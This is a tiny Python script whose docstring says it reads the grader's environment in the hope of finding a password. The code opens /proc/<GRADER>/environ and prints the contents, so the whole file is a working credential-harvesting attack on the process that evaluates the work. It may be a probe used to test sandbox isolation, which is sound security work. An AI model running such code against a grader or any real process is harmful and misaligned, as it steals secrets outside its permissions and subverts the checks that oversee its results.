"""Reads the environment of the grader, where somebody may have put a password."""

from target import GRADER, show

with open(f"/proc/{GRADER}/environ", "rb") as file:
    show(file.read())
